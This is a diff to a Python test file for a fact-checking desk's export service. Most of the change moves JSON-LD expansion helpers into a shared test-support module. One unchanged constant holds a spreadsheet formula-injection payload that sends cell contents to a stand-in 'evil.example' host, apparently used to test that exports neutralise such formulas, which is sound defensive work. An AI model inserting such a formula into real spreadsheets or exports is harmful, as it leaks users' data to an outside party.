@@ -6,11 +6,9 @@ import csv
 import io
 import json
 from datetime import UTC, date, datetime
-from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
-from pyld import jsonld
 
 from factcheck.domain.claimreview import Publisher, validate
 from factcheck.domain.claims import ClaimStatus
@@ -22,9 +20,9 @@ from factcheck.services.core.errors import PermissionDenied, ValidationFailed
 from factcheck.services.exports import formats as exports
 from factcheck.services.exports.formats import ExportFormat, ExportSettings
 from factcheck.services.exports.query import ExportFilters, iter_rows
+from tests.support.schemaorg import expand, terms
 from tests.support.verdicts import make_article, publish, published_claim
 
-CONTEXT_FILE = Path(__file__).resolve().parents[2] / "fixtures" / "schemaorg-context.jsonld"
 SETTINGS = ExportSettings(Publisher("Harbour Fact Desk", "https://desk.example"))
 EVIL = '=HYPERLINK("https://evil.example/steal?d="&A1,"Port figures")'
 
@@ -137,21 +135,6 @@ def test_export_is_audited_with_format_filters_and_rows(session, desk):
     assert after["filters"]["rating"] == "false" and after["filters"]["outlet"] == "Harbour Post"
 
 
-def _local_loader(url, options=None):
-    # Only schema.org, and only from the copy shipped with the tests.
-    assert url.rstrip("/") in {"https://schema.org", "http://schema.org"}, url
-    document = json.loads(CONTEXT_FILE.read_text(encoding="utf-8"))
-    return {"contextUrl": None, "documentUrl": url, "document": document}
-
-
-def _terms(node):
-    if isinstance(node, dict):
-        return sum(0 if key.startswith("@") else 1 + _terms(value) for key, value in node.items())
-    if isinstance(node, list):
-        return sum(_terms(item) for item in node)
-    return 0
-
-
 def test_claimreview_validates_and_expands_as_json_ld(session, desk):
     claim = published_claim(session, desk.id, "Cargo fell by half at the port last year")
     _, (unpublished,) = make_article(session, desk.id, ["Ferries ran on time"])
@@ -163,7 +146,7 @@ def test_claimreview_validates_and_expands_as_json_ld(session, desk):
     assert job.outcome.rows == 1 and job.outcome.skipped == []
     assert validate(review).ok
     assert review["url"] == f"https://desk.example/fact-checks/{claim.id}"
-    expanded = jsonld.expand(document, {"documentLoader": _local_loader})
+    expanded = expand(document)
     (node,) = expanded
     schema = "http://schema.org/"
     assert node["@type"] == [schema + "ClaimReview"]
@@ -176,7 +159,7 @@ def test_claimreview_validates_and_expands_as_json_ld(session, desk):
     author = item[schema + "author"][0]
     assert author[schema + "name"] == [{"@value": "Port Authority spokesperson"}]
     # Every term used is defined: expansion silently drops unknown ones.
-    assert _terms(expanded) == _terms(review)
+    assert terms(expanded) == terms(review)
 
 
 def test_narrow_exports_read_through_an_index_and_agree_with_a_full_scan(
